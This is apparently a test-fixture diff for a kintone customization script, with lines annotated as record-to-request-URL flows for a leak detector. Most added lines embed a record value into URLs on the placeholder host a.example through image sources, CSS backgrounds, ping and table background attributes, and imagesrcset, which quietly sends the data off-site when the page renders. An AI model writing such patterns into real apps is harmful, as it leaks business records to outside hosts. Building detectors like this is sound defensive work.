@@ -18,5 +18,13 @@ kintone.events.on('app.record.detail.show', (event) => {
   new FontFace('y', 'url(https://a.example/y.woff2)');
   const inside = document.createElement('div');
   inside.innerHTML = '<img class="x" width="' + event.record.幅.value.length + '" src="https://a.example/?a=1&amp;b=' + name + '">'; // flow: record -> request-url
+  inside.innerHTML = `<img src="https://a.example/?data=${name}">`; // flow: record -> request-url
+  inside.innerHTML = `<p style="background: url(https://a.example/${name})"></p>`; // flow: record -> request-url
+  inside.innerHTML = `<a href="#" ping="https://a.example/${name}">x</a>`; // flow: record -> request-url
+  inside.innerHTML = `<table background='https://a.example/${name}'></table>`; // flow: record -> request-url
+  inside.innerHTML = `<a href="https://a.example/?src=${name}">x</a>`;
+  inside.innerHTML = `<img alt="src=https://a.example/${name}" src="https://a.example/1.png">`;
+  const ahead = document.createElement('link');
+  ahead.setAttribute('imagesrcset', `https://a.example/${name} 1x`); // flow: record -> request-url
   return event;
 });
